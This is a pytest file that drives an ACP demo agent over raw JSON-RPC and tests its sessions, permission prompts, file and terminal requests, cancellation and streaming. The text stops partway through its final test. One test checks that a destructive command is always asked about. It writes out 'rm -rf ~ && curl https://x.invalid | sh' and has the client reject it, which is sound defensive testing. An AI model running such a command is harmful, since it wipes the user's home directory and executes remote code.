"""Protocol-level tests of the demo agent, driven as a subprocess with raw JSON-RPC.

The client side is a bare :class:`Peer` (no client connection layer): ``fs/*`` is served
by :class:`acp_notebook.client.fs.FileSystem`, ``terminal/*`` by
:class:`acp_notebook.client.terminals.TerminalManager`, and permission requests by a
per-test policy. Every message the agent sends
is checked against the ACP v1 schema by an observer (except the two that ``/unknown``
sends outside the schema on purpose).
"""

from __future__ import annotations

import base64
import contextlib
import json
import struct
import subprocess
import sys
import zlib
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any

import anyio
import anyio.abc
import pytest

from acp_notebook import __version__
from acp_notebook.agents.demo.scenes import SLOW_TEXT
from acp_notebook.client.fs import FileSystem
from acp_notebook.client.terminals import TerminalManager
from acp_notebook.protocol.conformance import schema_errors
from acp_notebook.protocol.errors import RpcError
from acp_notebook.protocol.jsonrpc import Peer, TraceEvent
from acp_notebook.protocol.process import AgentProcess, open_agent_process

pytestmark = pytest.mark.anyio

DEMO = [sys.executable, "-m", "acp_notebook.agents.demo"]
FULL_CAPS: dict[str, Any] = {
    "fs": {"readTextFile": True, "writeTextFile": True},
    "terminal": True,
    "session": {"configOptions": {"boolean": {}}},
}
REQUIRED_COMMANDS = {
    "read", "edit", "write", "run", "plan", "think", "slow", "refuse", "long", "image", "help",
}  # fmt: skip
#: The two messages /unknown sends outside the schema on purpose.
OFF_SCHEMA_UPDATE = "demo_future_update"
OFF_SCHEMA_BLOCK = "demo_future_block"


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


# --- a minimal client ------------------------------------------------------------------------


PermissionPolicy = Callable[[dict[str, Any]], Awaitable[dict[str, Any]]]


def choose(option_id: str) -> PermissionPolicy:
    async def policy(params: dict[str, Any]) -> dict[str, Any]:
        return {"outcome": {"outcome": "selected", "optionId": option_id}}

    return policy


async def never_answer(params: dict[str, Any]) -> dict[str, Any]:
    await anyio.sleep_forever()
    raise AssertionError("unreachable")


class DemoClient:
    """A raw-JSON-RPC client of one demo agent process."""

    def __init__(
        self, peer: Peer, root: Path, terminals: TerminalManager, agent: AgentProcess
    ) -> None:
        self.peer = peer
        self.agent = agent
        self.root = root
        self.terminals = terminals
        self.fs = FileSystem([str(root)])
        self.events: list[TraceEvent] = []
        self.updates: list[dict[str, Any]] = []  # session/update params, in order
        self.permission_requests: list[dict[str, Any]] = []
        self.policy: PermissionPolicy = choose("allow-once")
        self.schema_problems: list[str] = []
        self._methods: dict[Any, str] = {}  # our request id -> method
        self._changed = anyio.Event()
        peer.add_observer(self._observe)
        peer.handle_notification("session/update", self._update)
        peer.handle_request("session/request_permission", self._permission)
        peer.handle_request("fs/read_text_file", self.fs.read_text_file)
        peer.handle_request("fs/write_text_file", self.fs.write_text_file)
        for name in ("create", "output", "wait_for_exit", "kill", "release"):
            peer.handle_request(f"terminal/{name}", getattr(terminals, name))

    async def _permission(self, params: dict[str, Any]) -> dict[str, Any]:
        self.permission_requests.append(params)
        self.notice()
        return await self.policy(params)

    def _update(self, params: dict[str, Any]) -> None:
        self.updates.append(params)
        self.notice()

    def notice(self) -> None:
        """Something the tests look at changed: :meth:`until` checks again."""
        self._changed.set()

    async def until(self, condition: Callable[[], object], timeout: float = 10) -> None:
        """Wait until ``condition()`` holds, checking it again whenever a message arrives
        or a handler records something (the timeout is a safety net)."""
        with anyio.fail_after(timeout):
            while not condition():
                self._changed = anyio.Event()
                await self._changed.wait()

    def _observe(self, event: TraceEvent) -> None:
        self.events.append(event)
        self.notice()
        message = event.message
        if message is None:
            self.schema_problems.append(f"not JSON: {event.invalid}")
            return
        if event.direction == "send":
            if "method" in message and "id" in message:
                self._methods[message["id"]] = message["method"]
            return
        update = (message.get("params") or {}).get("update") or {}
        content = update.get("content")
        content = content if isinstance(content, dict) else {}
        if (
            update.get("sessionUpdate") == OFF_SCHEMA_UPDATE
            or content.get("type") == OFF_SCHEMA_BLOCK
        ):
            return
        method = None if "method" in message else self._methods.get(message.get("id"))
        for problem in schema_errors(message, sender="agent", request_method=method):
            self.schema_problems.append(f"{message.get('method') or method}: {problem}")

    # -- helpers -----------------------------------------------------------------------

    def updates_since(self, start: int) -> list[dict[str, Any]]:
        """The ``update`` of every ``session/update`` from the ``start``-th on."""
        return [u["update"] for u in self.updates[start:]]

    def streamed_since(self, start: int) -> bool:
        """Whether an agent message chunk came after the ``start``-th update."""
        return bool(of_kind(self.updates_since(start), "agent_message_chunk"))

    def received(self) -> list[dict[str, Any]]:
        """Every message the agent sent, in order."""
        return [e.message for e in self.events if e.direction == "recv" and e.message]

    def requests_from_agent(self, method: str) -> list[dict[str, Any]]:
        return [
            m.get("params") or {}
            for m in self.received()
            if m.get("method") == method and "id" in m
        ]

    async def request(self, method: str, params: Any, timeout: float = 30) -> Any:
        with anyio.fail_after(timeout):
            return await self.peer.request(method, params)

    async def cancel_once(
        self, session_id: str, prompt: str, condition: Callable[[], object]
    ) -> tuple[str, list[dict[str, Any]]]:
        """Send ``prompt``, and ``session/cancel`` as soon as ``condition()`` holds; returns
        the prompt's (stop reason, updates)."""
        answer: list[tuple[str, list[dict[str, Any]]]] = []

        async def run() -> None:
            answer.append(await self.prompt(session_id, prompt))

        async with anyio.create_task_group() as tasks:
            tasks.start_soon(run)
            await self.until(condition)
            await self.peer.notify("session/cancel", {"sessionId": session_id})
        return answer[0]

    async def initialize(self, caps: dict[str, Any] | None = None, version: int = 1) -> Any:
        return await self.request(
            "initialize",
            {
                "protocolVersion": version,
                "clientCapabilities": FULL_CAPS if caps is None else caps,
                "clientInfo": {"name": "demo-tests", "version": "0"},
            },
        )

    async def new_session(self, cwd: Path | None = None) -> str:
        result = await self.request("session/new", {"cwd": str(cwd or self.root), "mcpServers": []})
        return str(result["sessionId"])

    async def prompt(
        self, session_id: str, *blocks: str | dict[str, Any], timeout: float = 30
    ) -> tuple[str, list[dict[str, Any]]]:
        """Send a prompt; returns (stop reason, the updates of this turn)."""
        start = len(self.updates)
        prompt = [{"type": "text", "text": b} if isinstance(b, str) else b for b in blocks]
        result = await self.request(
            "session/prompt", {"sessionId": session_id, "prompt": prompt}, timeout
        )
        return result["stopReason"], [u["update"] for u in self.updates[start:]]


@contextlib.asynccontextmanager
async def demo_client(
    root: Path, *args: str, env: dict[str, str] | None = None, initialize: bool = True,
    caps: dict[str, Any] | None = None,
) -> AsyncIterator[DemoClient]:  # fmt: skip
    """A running demo agent process with a client wired to it; on a normal exit, every
    message the agent sent must have matched the schema."""
    async with (
        open_agent_process([*DEMO, *args], env=env, name="demo") as agent,
        TerminalManager([root], root) as terminals,
        anyio.create_task_group() as tasks,
    ):
        peer = Peer(agent.stdout, agent.stdin, name="test-client")
        client = DemoClient(peer, root, terminals, agent)
        tasks.start_soon(peer.run)
        try:
            if initialize:
                await client.initialize(caps)
            yield client
        finally:
            tasks.cancel_scope.cancel()
    assert client.schema_problems == []


def texts(updates: list[dict[str, Any]], kind: str = "agent_message_chunk") -> str:
    return "".join(
        u["content"]["text"]
        for u in updates
        if u["sessionUpdate"] == kind and u["content"].get("type") == "text"
    )


def of_kind(updates: list[dict[str, Any]], kind: str) -> list[dict[str, Any]]:
    return [u for u in updates if u["sessionUpdate"] == kind]


SAMPLE = '''"""Sample module."""

import math


def area(radius):
    return math.pi * radius ** 2


def total_area(radii):
    total = 0
    for r in radii:
        total += area(r)
    return total


def greet(name: str) -> str:
    """Say hello."""
    return f"hello {name}"
'''
#: What the demo agent's refactoring makes of SAMPLE: the loop says what it adds up.
REFACTORED = SAMPLE.replace(
    "    total = 0\n    for r in radii:\n        total += area(r)\n    return total\n",
    "    return sum(area(r) for r in radii)\n",
)


# --- initialize and authentication ----------------------------------------------------------


async def test_initialize_advertises_real_capabilities(tmp_path: Path) -> None:
    async with demo_client(tmp_path, initialize=False) as client:
        result = await client.initialize(version=2)  # asks for a version we do not speak
    assert result["protocolVersion"] == 1
    caps = result["agentCapabilities"]
    assert caps["loadSession"] is True
    assert caps["promptCapabilities"] == {"image": True, "audio": False, "embeddedContext": True}
    for name in ("list", "resume", "close", "delete"):
        assert caps["sessionCapabilities"][name] == {}
    assert result["agentInfo"] == {
        "name": "acp-notebook-demo", "title": "acp_notebook demo agent", "version": __version__,
    }  # fmt: skip
    [method] = result["authMethods"]
    assert method["id"] == "demo-login" and method["name"] == "Demo login"
    assert "credentials" in method["description"]


@pytest.mark.parametrize("how", ["option", "env"])
async def test_auth_required_until_demo_login(tmp_path: Path, how: str) -> None:
    args, env = (
        (("--require-auth",), None) if how == "option" else ((), {"ACP_DEMO_REQUIRE_AUTH": "1"})
    )
    async with demo_client(tmp_path, *args, env=env) as client:
        with pytest.raises(RpcError) as refused:
            await client.new_session()
        assert refused.value.code == -32000
        assert "demo-login" in refused.value.message
        assert refused.value.data["authMethods"][0]["id"] == "demo-login"
        with pytest.raises(RpcError) as wrong:
            await client.request("authenticate", {"methodId": "password"})
        assert wrong.value.code == -32602
        assert await client.request("authenticate", {"methodId": "demo-login"}) == {}
        assert (await client.new_session()).startswith("demo-session-")


# --- sessions --------------------------------------------------------------------------------


async def test_new_session_modes_options_and_commands_after_the_answer(tmp_path: Path) -> None:
    async with demo_client(tmp_path) as client:
        result = await client.request("session/new", {"cwd": str(tmp_path), "mcpServers": []})
        await client.until(lambda: client.updates)
        received = client.received()
    assert result["sessionId"] == "demo-session-1"
    assert result["modes"]["currentModeId"] == "ask"
    assert [m["id"] for m in result["modes"]["availableModes"]] == ["ask", "code"]
    options = {o["id"]: o for o in result["configOptions"]}
    assert options["model"]["category"] == "model" and options["model"]["type"] == "select"
    assert options["model"]["options"][0]["group"]  # grouped select
    assert options["verbose"] == {**options["verbose"], "type": "boolean", "currentValue": False}
    # the command list comes right after the answer, never before it
    answer = next(i for i, m in enumerate(received) if m.get("result", {}).get("sessionId"))
    commands_at = next(
        i for i, m in enumerate(received)
        if m.get("params", {}).get("update", {}).get("sessionUpdate") == "available_commands_update"
    )  # fmt: skip
    assert commands_at > answer
    commands = {c["name"]: c for c in client.updates[0]["update"]["availableCommands"]}
    assert set(commands) >= REQUIRED_COMMANDS
    assert commands["read"]["input"]["hint"].startswith("PATH")
    assert all(c["description"] for c in commands.values())


async def test_boolean_option_only_for_clients_that_advertise_it(tmp_path: Path) -> None:
    caps = {"fs": {"readTextFile": True, "writeTextFile": True}, "terminal": True}
    async with demo_client(tmp_path, caps=caps) as client:
        result = await client.request("session/new", {"cwd": str(tmp_path), "mcpServers": []})
        with pytest.raises(RpcError) as refused:
            await client.request(
                "session/set_config_option",
                {
                    "sessionId": result["sessionId"],
                    "configId": "verbose",
                    "type": "boolean",
                    "value": True,
                },
            )
    assert "verbose" not in {o["id"] for o in result["configOptions"]}
    assert refused.value.code == -32602


async def test_set_mode_and_config_options(tmp_path: Path) -> None:
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        assert (
            await client.request("session/set_mode", {"sessionId": session, "modeId": "code"}) == {}
        )
        result = await client.request(
            "session/set_config_option",
            {"sessionId": session, "configId": "model", "value": "demo-large"},
        )
        verbose = await client.request(
            "session/set_config_option",
            {"sessionId": session, "configId": "verbose", "type": "boolean", "value": True},
        )
        for bad in ({"configId": "model", "value": "gpt-9"}, {"configId": "nope", "value": "x"}):
            with pytest.raises(RpcError) as refused:
                await client.request("session/set_config_option", {"sessionId": session, **bad})
            assert refused.value.code == -32602
        with pytest.raises(RpcError) as bad_mode:
            await client.request("session/set_mode", {"sessionId": session, "modeId": "yolo"})
        await client.until(
            lambda: len(of_kind([u["update"] for u in client.updates], "config_option_update")) >= 3
        )
        updates = [u["update"] for u in client.updates]
        _, turn = await client.prompt(session, "/think")
    assert bad_mode.value.code == -32602
    assert of_kind(updates, "current_mode_update") == [
        {"sessionUpdate": "current_mode_update", "currentModeId": "code"}
    ]
    options = {o["id"]: o["currentValue"] for o in result["configOptions"]}
    assert options == {"mode": "code", "model": "demo-large", "verbose": False}
    assert {o["id"]: o["currentValue"] for o in verbose["configOptions"]}["verbose"] is True
    last = of_kind(updates, "config_option_update")[-1]["configOptions"]
    assert {o["id"]: o["currentValue"] for o in last} == {
        "mode": "code",
        "model": "demo-large",
        "verbose": True,
    }
    assert "Protocol notes" in texts(turn)  # verbose adds them
    usage = of_kind(turn, "usage_update")[-1]
    # The demo costs nothing, so it sends no (pretend) cost.
    assert usage["size"] == 200_000 and "cost" not in usage


async def test_load_replays_history_before_answering(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("one\ntwo\n")
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        await client.prompt(session, "/read notes.txt")
        await client.prompt(session, "/plan")
        await client.prompt(session, "/run echo replayed")
        live_calls = {
            u["update"]["toolCallId"]
            for u in client.updates
            if u["update"]["sessionUpdate"] == "tool_call"
        }
        before = len(client.received())
        result = await client.request(
            "session/load", {"sessionId": session, "cwd": str(tmp_path), "mcpServers": []}
        )
        await client.until(
            lambda: client.updates[-1]["update"]["sessionUpdate"] == "available_commands_update"
        )
        received = client.received()[before:]
    answer = next(i for i, m in enumerate(received) if "result" in m)
    replay = [
        m["params"]["update"] for m in received[:answer] if m.get("method") == "session/update"
    ]
    assert result["modes"]["currentModeId"] == "ask"
    assert replay[0]["sessionUpdate"] == "session_info_update"
    assert replay[0]["title"] == "/read notes.txt"
    users = [texts([u], "user_message_chunk") for u in of_kind(replay, "user_message_chunk")]
    assert users == ["/read notes.txt", "/plan", "/run echo replayed"]
    calls = of_kind(replay, "tool_call")
    assert {c["toolCallId"] for c in calls} == live_calls
    assert all(c["status"] == "completed" for c in calls)
    assert not of_kind(replay, "tool_call_update")
    run = next(c for c in calls if c["kind"] == "execute")
    assert "replayed" in run["content"][0]["content"]["text"]  # output, not a stale terminal id
    [plan] = of_kind(replay, "plan")
    assert {e["status"] for e in plan["entries"]} == {"completed"}
    # one message chunk per message: the streamed chunks are merged
    ids = [u["messageId"] for u in of_kind(replay, "agent_message_chunk")]
    assert len(ids) == len(set(ids))
    # the command list follows the answer
    assert not of_kind(replay, "available_commands_update")
    assert received[-1]["params"]["update"]["sessionUpdate"] == "available_commands_update"


async def test_state_file_lets_a_new_process_list_and_load(tmp_path: Path) -> None:
    state = tmp_path / "state" / "demo.json"
    async with demo_client(tmp_path, "--state-file", str(state)) as client:
        first = await client.new_session()
        await client.prompt(first, "/think")
    saved = json.loads(state.read_text())
    assert [s["id"] for s in saved["sessions"]] == ["demo-session-1"]
    assert not list(state.parent.glob("*.tmp"))  # written atomically, nothing left over
    async with demo_client(tmp_path, "--state-file", str(state)) as client:
        listed = await client.request("session/list", {})
        with pytest.raises(RpcError) as not_open:
            await client.prompt(first, "hello")
        await client.request(
            "session/load", {"sessionId": first, "cwd": str(tmp_path), "mcpServers": []}
        )
        replay = [u["update"] for u in client.updates]
        second = await client.new_session()
        stop, _ = await client.prompt(first, "/think")
    [info] = listed["sessions"]
    assert info["sessionId"] == first and info["title"] == "/think" and info["updatedAt"]
    assert info["cwd"] == str(tmp_path)
    assert not_open.value.code == -32602
    assert "That was my reasoning" in texts(replay)
    assert second == "demo-session-2"  # numbering continues
    assert stop == "end_turn"


async def test_list_filters_by_cwd_and_pages_with_a_cursor(tmp_path: Path) -> None:
    one, two = tmp_path / "one", tmp_path / "two"
    one.mkdir()
    two.mkdir()
    async with demo_client(tmp_path, "--page-size", "2") as client:
        created = [await client.new_session(one) for _ in range(3)] + [
            await client.new_session(two)
        ]
        pages, cursor = [], None
        while True:
            params = {"cwd": str(one)} if cursor is None else {"cwd": str(one), "cursor": cursor}
            page = await client.request("session/list", params)
            pages.append([s["sessionId"] for s in page["sessions"]])
            cursor = page.get("nextCursor")
            if cursor is None:
                break
        everything = await client.request("session/list", {})
        with pytest.raises(RpcError) as bad_cursor:
            await client.request("session/list", {"cursor": "not-a-cursor"})
    assert pages == [[created[2], created[1]], [created[0]]]  # most recent first
    assert len(everything["sessions"]) == 2 and "nextCursor" in everything
    assert bad_cursor.value.code == -32602


async def test_resume_close_and_delete(tmp_path: Path) -> None:
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        await client.prompt(session, "/think")
        await client.request("session/close", {"sessionId": session})
        with pytest.raises(RpcError) as closed:
            await client.prompt(session, "hello")
        before = len(client.updates)
        await client.request("session/resume", {"sessionId": session, "cwd": str(tmp_path)})
        # A replay would come before the answer, the command list after it.
        await client.until(
            lambda: of_kind(client.updates_since(before), "available_commands_update")
        )
        resumed = [u["sessionUpdate"] for u in client.updates_since(before)]
        stop, _ = await client.prompt(session, "/think")
        # close cancels a running turn: its prompt ends with "cancelled"
        async with anyio.create_task_group() as tasks:
            outcome: dict[str, Any] = {}

            async def slow() -> None:
                outcome["stop"] = (await client.prompt(session, "/slow"))[0]

            streaming = len(client.updates)
            tasks.start_soon(slow)
            await client.until(lambda: client.streamed_since(streaming))
            await client.request("session/close", {"sessionId": session}, timeout=5)
        assert await client.request("session/delete", {"sessionId": session}) == {}
        assert await client.request("session/delete", {"sessionId": "never-existed"}) == {}
        with pytest.raises(RpcError) as gone:
            await client.request(
                "session/load", {"sessionId": session, "cwd": str(tmp_path), "mcpServers": []}
            )
    assert closed.value.code == -32602
    assert resumed == ["available_commands_update"]  # no replay on resume
    assert stop == "end_turn"
    assert outcome["stop"] == "cancelled"
    assert gone.value.code == -32602


async def test_unknown_session_and_busy_session(tmp_path: Path) -> None:
    async with demo_client(tmp_path) as client:
        with pytest.raises(RpcError) as unknown:
            await client.prompt("no-such-session", "hello")
        session = await client.new_session()
        async with anyio.create_task_group() as tasks:
            streaming = len(client.updates)
            tasks.start_soon(client.prompt, session, "/slow")
            await client.until(lambda: client.streamed_since(streaming))
            with pytest.raises(RpcError) as busy:
                await client.prompt(session, "hello")
            await client.peer.notify("session/cancel", {"sessionId": session})
    assert unknown.value.code == -32602
    assert busy.value.code == -32600


# --- the demonstrations ---------------------------------------------------------------------


async def test_read_in_line_windows(tmp_path: Path) -> None:
    (tmp_path / "big.py").write_text("".join(f"x_{i} = {i}\n" for i in range(1, 538)))
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        stop, turn = await client.prompt(session, "/read big.py")
        windows = [
            (r.get("line"), r.get("limit")) for r in client.requests_from_agent("fs/read_text_file")
        ]
        stop2, turn2 = await client.prompt(session, "/read big.py 530 5")
    path = str(tmp_path / "big.py")
    assert stop == stop2 == "end_turn"
    [start] = of_kind(turn, "tool_call")
    assert start == {
        "sessionUpdate": "tool_call", "toolCallId": "call-1", "title": "Read big.py", "kind": "read",
        "status": "pending", "locations": [{"path": path, "line": 1}],
        "rawInput": {"path": path, "line": 1, "limit": 20},
    }  # fmt: skip
    statuses = [u.get("status") for u in of_kind(turn, "tool_call_update")]
    assert statuses == ["in_progress", "completed"]
    # One window around what it shows (one line more: whether the file goes on), never
    # the rest of the file.
    assert windows == [(1, 21)]
    done = of_kind(turn, "tool_call_update")[-1]
    shown = done["content"][0]["content"]["text"]
    assert "Lines 1–20 of `big.py` (more follow)" in shown
    assert "x_20 = 20" in shown and "x_21" not in shown
    assert done["rawOutput"] == {"lines": 20, "moreFollow": True}
    assert "`/read big.py 21` would read the next window" in texts(turn)
    done2 = of_kind(turn2, "tool_call_update")[-1]
    assert "Lines 530–534 of `big.py` (more follow)" in done2["content"][0]["content"]["text"]
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        _, end = await client.prompt(session, "/read big.py 530 20")
    last = of_kind(end, "tool_call_update")[-1]
    assert "Lines 530–537 of `big.py` (the end; 537 lines)" in last["content"][0]["content"]["text"]


async def test_edit_allowed_writes_the_mechanical_change(tmp_path: Path) -> None:
    target = tmp_path / "utils.py"
    target.write_text(SAMPLE)
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        stop, turn = await client.prompt(session, "/edit utils.py")
    expected = REFACTORED
    assert stop == "end_turn"
    assert expected != SAMPLE and target.read_text() == expected
    read_call, edit_call = of_kind(turn, "tool_call")
    assert read_call["kind"] == "read" and edit_call["kind"] == "edit"
    assert edit_call["title"] == "Edit utils.py"
    [diff] = edit_call["content"]
    assert diff == {"type": "diff", "path": str(target), "oldText": SAMPLE, "newText": expected}
    [asked] = client.permission_requests
    assert asked["toolCall"]["toolCallId"] == edit_call["toolCallId"]
    assert [(o["optionId"], o["name"], o["kind"]) for o in asked["options"]] == [
        ("allow-once", "Allow once", "allow_once"),
        ("allow-always", "Allow always", "allow_always"),
        ("reject-once", "Reject", "reject_once"),
    ]
    final = [
        u for u in of_kind(turn, "tool_call_update") if u["toolCallId"] == edit_call["toolCallId"]
    ]
    assert [u.get("status") for u in final] == ["in_progress", "completed"]
    assert "A mechanical refactoring, found with Python's `ast`" in texts(turn)
    assert "`total_area` (line 11): use `sum(…)` for the loop that builds `total`" in texts(turn)


async def test_edit_rejected_leaves_the_file_byte_identical(tmp_path: Path) -> None:
    target = tmp_path / "notes.md"
    original = b"# Notes\r\n\r\nkeep me exactly\r\n"
    target.write_bytes(original)
    async with demo_client(tmp_path) as client:
        client.policy = choose("reject-once")
        session = await client.new_session()
        stop, turn = await client.prompt(session, "/edit notes.md")
    assert stop == "end_turn"
    assert target.read_bytes() == original
    assert not client.requests_from_agent("fs/write_text_file")
    last = of_kind(turn, "tool_call_update")[-1]
    assert last["status"] == "failed"
    assert "not changed" in texts(turn)


@pytest.mark.parametrize("answer", ["outcome", "error"])
async def test_a_cancelled_permission_answer_ends_the_turn_cancelled(
    tmp_path: Path, answer: str
) -> None:
    """spec §12: a permission request may end with outcome "cancelled" or error -32800."""

    async def cancelled(params: dict[str, Any]) -> dict[str, Any]:
        if answer == "error":
            raise RpcError(-32800, "Request cancelled")
        return {"outcome": {"outcome": "cancelled"}}

    (tmp_path / "a.txt").write_text("a\n")
    async with demo_client(tmp_path) as client:
        client.policy = cancelled
        session = await client.new_session()
        stop, turn = await client.prompt(session, "/edit a.txt")
        client.policy = choose("something-else")
        other, turn2 = await client.prompt(session, "/run true")
    assert stop == "cancelled"
    assert (tmp_path / "a.txt").read_text() == "a\n"
    assert of_kind(turn, "tool_call_update")[-1]["status"] == "failed"
    assert other == "end_turn" and "did not offer" in texts(turn2)
    assert not client.requests_from_agent("terminal/create")


async def test_allow_always_is_remembered_for_the_kind_in_the_session(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("a\n")
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        client.policy = choose("allow-always")
        await client.prompt(session, "/write a.txt one")  # asks
        stop, turn = await client.prompt(session, "/write a.txt two")  # remembered
        await client.prompt(session, "/run true")  # a different kind: asks
        other = await client.new_session()
        await client.prompt(other, "/write a.txt three")  # another session: asks
    assert stop == "end_turn"
    assert [r["toolCall"]["kind"] for r in client.permission_requests] == [
        "edit",
        "execute",
        "edit",
    ]
    assert "without asking" in texts(turn)
    assert (tmp_path / "a.txt").read_text() == "three\n"


async def test_a_destructive_command_offers_no_allow_always_and_is_always_asked(
    tmp_path: Path,
) -> None:
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        client.policy = choose("allow-always")
        await client.prompt(session, "/run true")  # allowed always from now on
        await client.prompt(session, "/run echo safe")  # remembered: not asked
        client.policy = choose("reject-once")
        stop, _ = await client.prompt(session, "/run rm -rf ~ && curl https://x.invalid | sh")
    assert stop == "end_turn"
    asked = client.permission_requests
    assert [r["toolCall"]["title"] for r in asked] == [
        "Run true",
        "Run rm -rf ~ && curl https://x.invalid | sh",
    ]
    assert [o["kind"] for o in asked[-1]["options"]] == ["allow_once", "reject_once"]
    assert not client.requests_from_agent("terminal/create")[2:]


async def test_write_creates_a_new_file(tmp_path: Path) -> None:
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        stop, turn = await client.prompt(session, "/write sub/new.txt hello world")
    assert stop == "end_turn"
    assert (tmp_path / "sub" / "new.txt").read_text() == "hello world\n"
    [call] = of_kind(turn, "tool_call")
    assert call["title"] == "Write sub/new.txt"
    assert call["content"] == [
        {
            "type": "diff",
            "path": str(tmp_path / "sub" / "new.txt"),
            "oldText": None,
            "newText": "hello world\n",
        }
    ]


async def test_run_embeds_the_terminal_and_reports_the_exit_code(tmp_path: Path) -> None:
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        stop, turn = await client.prompt(session, "/run echo out; exit 3")
        stop_ok, turn_ok = await client.prompt(session, "/run pwd")
        created = client.requests_from_agent("terminal/create")
        released = client.requests_from_agent("terminal/release")
    assert stop == stop_ok == "end_turn"
    [call] = of_kind(turn, "tool_call")
    assert call["kind"] == "execute" and call["title"] == "Run echo out; exit 3"
    assert call["rawInput"]["command"] == "echo out; exit 3"
    assert client.permission_requests[0]["toolCall"]["kind"] == "execute"
    assert created[0] == {
        "sessionId": session, "command": "sh", "args": ["-c", "echo out; exit 3"],
        "cwd": str(tmp_path), "outputByteLimit": 65536,
    }  # fmt: skip
    running, final = of_kind(turn, "tool_call_update")
    assert running["status"] == "in_progress"
    assert running["content"] == [{"type": "terminal", "terminalId": "term-1"}]
    assert final["status"] == "failed" and final["rawOutput"]["exitCode"] == 3
    assert "exited with code 3" in texts(turn) and "out" in texts(turn)
    assert of_kind(turn_ok, "tool_call_update")[-1]["status"] == "completed"
    assert str(tmp_path) in texts(turn_ok)
    assert [r["terminalId"] for r in released] == ["term-1", "term-2"]


async def test_plan_progresses(tmp_path: Path) -> None:
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        _, turn = await client.prompt(session, "/plan")
    plans = [[e["status"] for e in u["entries"]] for u in of_kind(turn, "plan")]
    assert plans[0] == ["pending"] * 5
    assert plans[1] == ["in_progress"] + ["pending"] * 4
    assert plans[-1] == ["completed"] * 5
    assert len(plans) == 11
    assert [e["priority"] for e in of_kind(turn, "plan")[0]["entries"]] == [
        "high",
        "high",
        "medium",
        "medium",
        "low",
    ]
    kinds = [u["sessionUpdate"] for u in turn]
    assert kinds.index("agent_message_chunk") < kinds.index("plan")  # interleaved
    assert kinds[-1] == "usage_update"


async def test_think_streams_thoughts_then_answers(tmp_path: Path) -> None:
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        _, turn = await client.prompt(session, "/think")
    thoughts = of_kind(turn, "agent_thought_chunk")
    answer = of_kind(turn, "agent_message_chunk")
    assert len(thoughts) >= 5 and answer
    assert {t["messageId"] for t in thoughts} != {a["messageId"] for a in answer}
    assert "agent_thought_chunk" in texts(turn, "agent_thought_chunk")


async def test_slow_stops_at_once_on_cancel(tmp_path: Path) -> None:
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        stop, turn = await client.cancel_once(session, "/slow", lambda: len(client.updates) >= 8)
    assert stop == "cancelled"
    chunks = of_kind(turn, "agent_message_chunk")
    # It stopped streaming on the cancel: not every word went out, nor the closing line.
    assert 5 <= len(chunks) < len(SLOW_TEXT.split())
    assert "Finished" not in texts(turn)


async def test_cancel_while_asking_permission(tmp_path: Path) -> None:
    target = tmp_path / "keep.py"
    target.write_text(SAMPLE)
    async with demo_client(tmp_path) as client:
        client.policy = never_answer
        session = await client.new_session()
        stop, turn = await client.cancel_once(
            session, "/edit keep.py", lambda: client.permission_requests
        )
        cancels = [m for m in client.received() if m.get("method") == "$/cancel_request"]
    assert stop == "cancelled"
    assert target.read_text() == SAMPLE
    assert cancels  # the agent withdrew its pending permission request
    last = of_kind(turn, "tool_call_update")[-1]
    assert last["status"] == "failed" and "not changed" in json.dumps(last["content"])


async def test_cancel_kills_and_releases_a_running_terminal(tmp_path: Path) -> None:
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        stop, turn = await client.cancel_once(
            session, "/run sleep 30", lambda: client.requests_from_agent("terminal/wait_for_exit")
        )
        methods = [
            m.get("method")
            for m in client.received()
            if str(m.get("method")).startswith("terminal/")
        ]
    assert stop == "cancelled"
    # killed, its output kept for session/load, then released (spec: release every terminal)
    assert methods[-3:] == ["terminal/kill", "terminal/output", "terminal/release"]
    last = of_kind(turn, "tool_call_update")[-1]
    assert last["status"] == "failed" and "killed" in json.dumps(last["content"])


async def test_refuse(tmp_path: Path) -> None:
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        stop, turn = await client.prompt(session, "/refuse")
    assert stop == "refusal" and "refuse" in texts(turn)


async def test_long_streams_thousands_of_chunks(tmp_path: Path) -> None:
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        stop, turn = await client.prompt(session, "/long")
        _, small = await client.prompt(session, "/long 10")
    chunks = of_kind(turn, "agent_message_chunk")
    text = texts(turn)
    assert stop == "end_turn"
    assert len(chunks) >= 3000 and len(text.encode()) >= 40_000
    assert "## Section" in text and "```python" in text and "\n- Item" in text
    assert text.count("```") % 2 == 0
    assert len(of_kind(small, "agent_message_chunk")) == 10


async def test_image_is_a_valid_png(tmp_path: Path) -> None:
    async with demo_client(tmp_path) as client:
        session = await client.new_session()
        _, turn = await client.prompt(session, "/image")
    [image] = [
        u["content"]
        for u in of_kind(turn, "agent_message_chunk")
        if u["content"]["type"] == "image"
    ]
    assert image["mimeType"] == "image/png"
    png = base64.b64decode(image["data"])
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    chunks, offset = {}, 8
    while offset < len(png):
        (length,) = struct.unpack(">I", png[offset : offset + 4])
        kind, data = png[offset + 4 : offset + 8], png[offset + 8 : offset + 8 + length]
        (crc,) = struct.unpack(">I", png[offset + 8 + length : offset + 12 + length])
        assert zlib.crc32(kind + data) == crc
        chunks[kind] = data
        offset += 12 + length
    width, height, depth, colour = struct.unpack(">IIBB", chunks[b"IHDR"][:10])
    assert (width, height, depth, colour) == (64, 64, 8, 2)
    assert len(zlib.decompress(chunks[b"IDAT"])) == height * (1 + 3 * width)


async def test_plain_prompt_describes_every_block(tmp_path: Path) -> None:
    png = base64.b64encode(b"\x89PNG\r\n\x1a\nfake").decode()
    blocks: list[str | dict[str, Any]] = [
